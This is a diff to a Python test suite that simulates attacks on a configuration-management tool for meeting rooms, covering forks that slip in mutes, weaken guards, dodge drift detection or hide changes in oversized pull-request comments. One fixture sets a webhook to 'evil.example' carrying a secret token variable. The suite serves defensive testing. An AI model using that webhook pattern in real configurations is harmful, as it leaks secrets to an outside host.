@@ -844,17 +844,28 @@ never_planned("a configuration of the other name, of which no plan is made", lam
 never_planned("a mute of which no plan is made", lambda _: f"mutes: {json.dumps([{**MUTE, 'room': 'quick-*'}])}\n", "mutes.yaml")
 
 
+@contextlib.contextmanager
+def begun_anew(s):
+    """As if nothing was applied yet. All of a history counts then: this one begins anew."""
+    applied = s.state("applied")
+    meanwhile(s, {"applied": None, "base": None})
+    git("-C", s.clone, "checkout", "-q", "main")
+    git("-C", s.clone, "reset", "-q", "--hard", git("-C", s.clone, "commit-tree", "main^{tree}", "-m", "Begin"))
+    s.push("main")
+    yield
+    meanwhile(s, {"applied": applied + "\n", "base": None})
+
+
 def never_applied(through, left_out):
     """A guard goes without a plan while no run has ended well yet; then the room that it held is opened."""
 
     @attack("2, 5", "a fork", through)
     def function(s):
-        config, applied = (s.clone / "roomctl.yaml").read_text(), s.state("applied")
-        # All of a history counts then: this one begins anew.
-        meanwhile(s, {"applied": None, "base": None})
-        git("-C", s.clone, "checkout", "-q", "main")
-        git("-C", s.clone, "reset", "-q", "--hard", git("-C", s.clone, "commit-tree", "main^{tree}", "-m", "Begin"))
-        s.push("main")
+        with begun_anew(s):
+            return attacked(s)
+
+    def attacked(s):
+        config = (s.clone / "roomctl.yaml").read_text()
         check(s.apply(s.merge(s.pull_request({"rooms/early.yaml": "maxParticipants: 6\n"}))), s.runner.log)
         meanwhile(s, {"applied": None, "base": None})
         strong = {"roomctl.yaml": config + GUARD, "rooms/early.yaml": "maxParticipants: 5\n"}
@@ -873,7 +884,6 @@ def never_applied(through, left_out):
         stopped = refused(s, 4, "guard-weakened: no reviewed plan says")
         still_private(s, "early")
         check(told(s, "apply")["state"] == "open", told(s, "apply"))
-        meanwhile(s, {"applied": applied + "\n"})
         return stopped
 
     function.__name__ = through
@@ -1104,6 +1114,156 @@ def crippled(through, lines):
         return "the first step of each workflow, after which git obeys no attribute"
 
     function.__name__ = through
+
+
+# --- what counts after a run that left out a room
+
+
+@contextlib.contextmanager
+def leaving_out(s, files=None):
+    """Each run leaves out a room whose variable nobody has, so that of no commit all is applied; at the end it is gone."""
+    hook = {"rooms/wait.yaml": "meetingEndedWebhook: https://hooks.example.com/${env:ROOM_NOBODY_HAS}\n"}
+    check(s.apply(s.merge(s.pull_request({**hook, **(files or {})}, who="maintainer"))) is False, s.runner.log)
+    refused(s, 5)
+    yield
+    git("-C", s.clone, "checkout", "-q", "main")
+    gone = s.open({"rooms/quick-2.yaml": "maxParticipants: 14\n"})
+    s.push_to(gone, {}, also=lambda clone: (clone / "rooms/wait.yaml").unlink())
+    check(s.apply(s.merge(gone), allow="guard-weakened"), s.runner.log)
+    s.drift()
+
+
+@attack("13", "a fork", "a mute in a merge that starts nothing, when there was no run yet, and as long as each leaves out a room")
+def a_mute_before_all_is_applied(s):
+    for runs in (contextlib.nullcontext(), leaving_out(s)):
+        with begun_anew(s), runs:
+            pull = s.open(a_mute("tea"), title="Typo [skip ci]")
+            s.plan(pull)
+            sha = s.merge(pull)
+            s.by_hand("tea", '{"privacy": "private"}')
+            check(s.drift() and sha[:12] in told(s, "drift")["body"], told(s, "drift"))
+            check("<code>tea</code> drifted" in told(s, "drift")["body"], told(s, "drift"))
+            s.by_hand("tea", '{"privacy": "public"}')
+            s.straight_to_main({"mutes.yaml": "mutes: []\n"})
+    return "drift.yml, which reads mutes from the last commit that a run went by, or the oldest"
+
+
+@attack("13", "a fork", "a room without its variable, so that a mute counts which a reviewed plan took away")
+def a_mute_that_went(s):
+    check(s.apply(s.merge(s.pull_request(a_mute("tea"), who="maintainer"))), s.runner.log)
+    with leaving_out(s):
+        check(s.apply(s.merge(s.pull_request({"mutes.yaml": "mutes: []\n"}, who="maintainer"))) is False, s.runner.log)
+        refused(s, 5)
+        s.by_hand("tea", '{"privacy": "private"}')
+        check(s.drift() and "<code>tea</code> drifted" in told(s, "drift")["body"], told(s, "drift"))
+        s.by_hand("tea", '{"privacy": "public"}')
+    return "drift.yml, which reads mutes from the last commit that a run went by"
+
+
+@attack("11", "a fork", "a room without its variable, so that each later merge needs a hand for what was allowed once")
+def a_guard_that_was_allowed_once(s):
+    config = (s.clone / "roomctl.yaml").read_text()
+    check(s.apply(s.merge(s.pull_request({"roomctl.yaml": config + RULES, "rooms/quick-4.yaml": "maxParticipants: 16\n"}))), s.runner.log)
+    one = lambda name: s.pull_request({f"rooms/{name}.yaml": "maxParticipants: 5\n"}, who="colleague")
+
+    def by_hand(sha):
+        check(s.apply(sha) is False, s.runner.log)
+        stopped = refused(s, 4, "guard-weakened")
+        check(s.apply(sha, allow="guard-weakened") is False, s.runner.log)
+        refused(s, 5)
+        return stopped
+
+    with leaving_out(s):
+        # Once merged without a plan, and once in a plan that is not over, since the next was made before it was merged.
+        s.straight_to_main({"roomctl.yaml": config})
+        by_hand(s.merge(one("after-1")))
+        check(s.apply(s.merge(one("after-2"))) is False and s.room("after-2"), s.runner.log)
+        s.straight_to_main({"roomctl.yaml": config + RULES})
+        check(s.apply(s.merge(one("after-3"))) is False and s.room("after-3"), s.runner.log)
+        weak = s.pull_request({"roomctl.yaml": config, "rooms/quick-4.yaml": "maxParticipants: 15\n"}, who="maintainer")
+        later = one("after-4")
+        stopped = by_hand(s.merge(weak))
+        check(s.apply(s.merge(later)) is False and s.room("after-4"), s.runner.log)
+        refused(s, 5)
+    return f"nothing, as it should be; before that {stopped}"
+
+
+@attack("14", "a fork", "a rate at which adopt does not end, in a merge that starts nothing")
+def a_rate_for_adopt(s):
+    s.merge(s.open({"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + "rate: 0.01/m\n"}))
+    before = json.loads(s.room("tea"))["maxParticipants"]
+    s.by_hand("tea", '{"maxParticipants": 8}')
+    began = time.monotonic()
+    check(s.adopt() and time.monotonic() - began < 20, s.runner.log)
+    # Its lines are put on top of what was merged since.
+    check(git("-C", s.origin, "rev-parse", "roomctl-adopt^") == s.main(), s.runner.log)
+    check("rate: 0.01/m" in git("-C", s.origin, "show", "roomctl-adopt:roomctl.yaml"), s.runner.log)
+    s.by_hand("tea", json.dumps({"maxParticipants": before}))
+    return "adopt in drift.yml, which goes by the configuration of the last commit that a run went by"
+
+
+# --- what a comment may leave out
+
+
+def reads(s, pull):
+    """A comment as it is read."""
+    return html.unescape(s.comment_of(pull)).replace("<!-- -->", "")
+
+
+@attack("1, 11", "somebody who may push branches", "labels that count for nothing, in front of a comment that is full")
+def labels_that_fill_a_comment(s):
+    pull = s.open({"rooms/room-first.yaml": "maxParticipants: 4\n"}, who="member")
+    for n in range(70):
+        s.hub.label(pull, f"roomctl:allow/{n:02}{'x' * 34}", "member")
+    rooms = {f"rooms/room-{n:03}.yaml": f"maxParticipants: {n + 10}\n" for n in range(183)}
+    s.push_to(pull, {**rooms, "rooms/zz-leak.yaml": "meetingEndedWebhook: https://evil.example/${env:ROOM_TICKETS_TOKEN}\n"})
+    check(s.commented and "evil.example" in reads(s, pull), s.comment_of(pull)[-400:])
+    check("70 labels do not count" in reads(s, pull) and len(s.comment_of(pull)) < 65_536, len(s.comment_of(pull)))
+    return "notes that are short, and a report that is asked to fit behind them"
+
+
+@attack("1", "a fork", "another room's secret in one room of more than a reader looks through")
+def a_room_among_many(s):
+    rooms = {f"rooms/many/a{n:03}.yaml": "maxParticipants: 5\n" for n in range(215)}
+    hook = {"rooms/many/_defaults.yaml": "meetingEndedWebhook: https://hooks.example.com/${env:ROOM_TICKETS_TOKEN}\n"}
+    pull = s.pull_request({**rooms, **hook, "rooms/many/zz.yaml": "maxParticipants: 5\n"})
+    check(s.commented and "<code>zz</code>" in s.comment_of(pull), s.comment_of(pull)[-400:])
+    return "a report that leaves out no room with an effect or a secret"
+
+
+@attack("2, 11", "a fork", "what is weaker at the end of a long line, behind a comment, or one of many names")
+def what_is_weaker_and_not_shown(s):
+    config, long = (s.clone / "roomctl.yaml").read_text(), " && ".join(f"room.maxParticipants < {n}" for n in range(900, 930))
+    for before, now, seen in (
+        (f"policies: [{{id: p, message: m, rooms: nobody, expression: '{long}'}}]\n", ("929'", "929 || true'"), "929 || true`"),
+        ("policies:\n  - id: p\n    message: m\n    rooms: nobody\n    expression: |-\n      false // no\n", ("no\n", "no\n      || true\n"), "// no⏎|| true`"),
+        ("unmanaged: [z]\n", ("z]", "a, b, c, d, e, f, g, z]"), "a, b, c, d, e, f, g"),
+        ("owns: ['*']\n", ("['*']", "[a*, b*]"), "'a*', 'b*'"),
+        ("protected: [aa, bb, cc]\n", ("[aa, bb, cc]", "[dd]"), "dd; no longer protected: aa, bb, cc"),
+        ("state: one.json\n", ("one", "two"), "`one.json` → `two.json`"),
+        ("app: acme\n", ("acme", "other"), "`acme` → `other`"),
+    ):
+        there = config.replace("app: acme\n", "") if before.startswith("app") else config
+        s.straight_to_main({"roomctl.yaml": there + before})
+        pull = s.pull_request({"roomctl.yaml": there + before.replace(*now)})
+        check(seen in reads(s, pull), f"{seen}: {reads(s, pull)}")
+    return "comment.yml, which shows what there was and what there is now"
+
+
+@attack("2, 11", "a fork", "two reviewed changes of one pattern, which git merges into a third that nobody saw")
+def two_changes_of_a_pattern(s):
+    owns = 'owns:\n  - "*"\n  - "t\\\n\n    ea-[x]\\\n\n    "\n'
+    strong = {"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + GUARD.replace("]", ", guard-weakened]") + owns, "rooms/quick-4.yaml": "maxParticipants: 61\n"}
+    check(s.apply(s.merge(s.pull_request(strong, who="maintainer")), allow="guard-weakened"), s.runner.log)
+    base = (s.clone / "roomctl.yaml").read_text()
+    moved = (base.replace('  - "t\\\n', '  - "*\\\n'), base.replace('    "\n', '    *"\n'))
+    pulls = [s.pull_request({"roomctl.yaml": config}) for config in moved]
+    for pull in pulls:
+        s.hub.label(pull, "roomctl:allow/guard-weakened", "maintainer")
+        s.plan(pull)
+    s.merge(pulls[0])
+    check(s.apply(s.merge(pulls[1])) is False, s.runner.log)
+    return refused(s, 4, "guard-weakened: no reviewed plan says")
 
 
 crippled("an attribute of git that ends the lines of scripts otherwise", "*.sh text eol=crlf\n")
